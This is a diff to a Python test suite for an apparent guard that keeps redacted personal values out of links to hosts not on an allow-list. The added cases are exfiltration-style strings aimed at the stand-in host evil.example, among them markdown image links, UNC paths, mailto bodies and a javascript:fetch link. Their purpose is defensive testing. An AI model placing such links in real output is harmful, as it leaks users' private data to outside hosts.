@@ -33,6 +33,16 @@ LISTED = Rules(hosts=frozenset(["ok.example", "*.corp.example"]))
         '"https://evil.example/?u=https://ok.example/<PERSON_1>"',
         "ftp://evil.example/<PERSON_1>",
         "https://evil.example/a\u00a0<PERSON_1>",
+        "![x](https://evil.example/?q= <PERSON_1>)",
+        "see evil.example/?q=<PERSON_1>",
+        "주소는evil.example:8080/<PERSON_1>",
+        "[x](evil.example/<PERSON_1>)",
+        "\\\\evil.example\\<PERSON_1>",
+        "\\\\evil.example@80\\<PERSON_1>",
+        "mailto:x@evil.example?subject=a&body=<PERSON_1>",
+        "[x](javascript:fetch('//evil.example/'+'<PERSON_1>'))",
+        "data:text/html,evil.example<PERSON_1>",
+        "https://ok.example\\@evil.example/<PERSON_1>",
     ],
 )
 def test_no_value_travels_to_a_host_off_the_list(text):
@@ -55,6 +65,13 @@ def test_no_value_travels_to_a_host_off_the_list(text):
         "(https://evil.example/a)<PERSON_1>",
         '<a href="https://evil.example/a"><PERSON_1></a>',
         "C:\\Users\\<PERSON_1>",
+        "ok.example/<PERSON_1>",
+        "evil.example/a <PERSON_1>",
+        "[x](https://evil.example/a)\n<PERSON_1>",
+        "mailto:<PERSON_1>",
+        "a.b@evil.example/<PERSON_1>",
+        "2026.11.21/<PERSON_1>",
+        "및/또는 <PERSON_1>, javascript: <PERSON_1>",
         "/home/<PERSON_1>/x",
         "// <PERSON_1>",
         "비고:<PERSON_1>",
@@ -115,6 +132,10 @@ def test_a_very_long_address_is_remembered():
     guard.add("b" * 20_000)
     assert not guard.is_closed_at("PERSON", " ")
     assert sum(map(len, guard._parts)) < 10_000
+    guard.add(" \n" + "c" * 500 + ".evil.example/")
+    assert guard.is_closed_at("PERSON", " ") is False  # no host has a label of 500 letters
+    guard.add(" evil.example/" + "d" * 9_000)
+    assert guard.is_closed_at("PERSON", " ")
 
 
 def test_any_host_may_be_listed():
